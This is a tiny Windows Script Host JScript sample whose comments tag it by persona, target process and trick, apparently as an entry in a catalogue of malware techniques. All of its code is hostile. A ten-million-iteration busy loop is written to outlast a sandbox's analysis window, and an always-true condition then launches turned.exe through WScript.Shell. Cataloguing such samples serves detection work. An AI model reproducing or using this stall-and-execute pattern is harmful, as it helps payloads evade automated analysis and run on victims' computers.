// persona: wsh
// reaches: process turned.exe
// names: time-waster
// trick: ten million turns of arithmetic that nobody needs, to outlast a sandbox
var sum = 0;
for (var i = 0; i < 10000000; i++) sum = (sum + i) & 255;
if (sum === 64 || sum >= 0) new ActiveXObject("WScript.Shell").Run("turned.exe");
